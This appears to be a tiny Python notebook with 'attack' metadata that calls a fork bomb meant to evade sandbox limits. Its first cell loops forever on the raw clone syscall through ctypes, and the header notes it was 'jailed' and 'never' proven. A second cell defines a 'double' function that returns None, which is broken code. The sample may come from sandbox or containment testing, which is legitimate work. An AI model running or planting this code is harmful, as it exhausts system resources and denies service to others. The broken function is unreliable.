# /// attack
# title = "Copies itself without end in a cell"
# notebook = true
# stopped_at = "jailed"
# proven = "never"
# perilous = "a fork bomb below the level that bounds it"
# ///
# %%
import ctypes

libc = ctypes.PyDLL(None)
while True:
    libc.syscall(56, ctypes.c_ulong(0x8000 | 17), None, None, None, None)
# %%
def double(x):
    return None
